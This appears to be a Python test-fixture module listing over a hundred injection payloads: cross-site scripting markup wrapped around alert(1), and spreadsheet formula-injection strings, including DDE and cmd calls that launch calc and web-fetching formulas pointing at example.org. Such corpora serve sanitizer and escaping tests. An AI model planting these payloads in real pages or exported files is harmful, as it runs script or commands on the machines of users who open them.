"""What people have tried to put into files so that it runs there: in pages, and in tables."""

_SCRIPT = "alert(1)"
_MARKUP = (
    "<script>{}</script>", "</script><script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//example.org/x.js></script>",
    "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=javascript:{}>",
    "<a href=\"javascript:{}\">x</a>", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>",
    "\"><script>{}</script>", "'><script>{}</script>", "\" onmouseover={} x=\"", "' onfocus={} autofocus '", "`><img src=x onerror={}>",
    "<!--><script>{}</script>", "--><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "<style>@import'javascript:{}'</style>",
    "<link rel=stylesheet href=javascript:{}>", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=javascript:{}//>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>x", "<input onfocus={} autofocus>",
    "<details ontoggle={} open>", "<video><source onerror={}>", "<audio src=x onerror={}>", "<math><mi xlink:href=javascript:{}>",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><script>{}</script>\">", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E", "\u003cscript\u003e{}\u003c/script\u003e", "＜script＞{}＜/script＞",
    "<img src=\"x\" onerror\n=\n{}>", "<img/src=x/onerror={}>", "<a href='https://example.org' onclick={}>x</a>", "https://example.org/\"onclick={}//",
    "https://example.org/<script>{}</script>", "https://example.org/'><img src=x onerror={}>", "<x onclick={}>x</x>", "<script type=text/html>{}",
    "</script>", "<script", "<!--<script>", "]]></script>", "<li id=m1 onclick={}>",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "\ufeff=1+1", "\u200b=1+1",
    "\u200e=1+1", "\u200f+1", "\xa0-1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=HYPERLINK(\"https://example.org\",\"x\")", "=IMPORTXML(\"a\",\"b\")",
    "=WEBSERVICE(\"https://example.org\")", "@example", "-2+3+cmd|' /C calc'!D2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+example", "--1", "=-1", "=@A1",
    "\t@A1", "\"=1+1", "'=1+1", "=1+1\",\"=2+2", "a\n=1+1", "a,=1+1", ";=1+1", "%0A=1+1", "=\"a\"&\"b\"", "=IMAGE(\"https://example.org/a.png\")",
    "+A1:Z9", "-A1", "@A1", "=A1;B1", "=1|2",
)  # fmt: skip

MARKUP = tuple(text.format(_SCRIPT) for text in _MARKUP)
#: Over a hundred of both kinds.
PAYLOADS = (*MARKUP, *_FORMULAS)
assert len(set(PAYLOADS)) >= 100
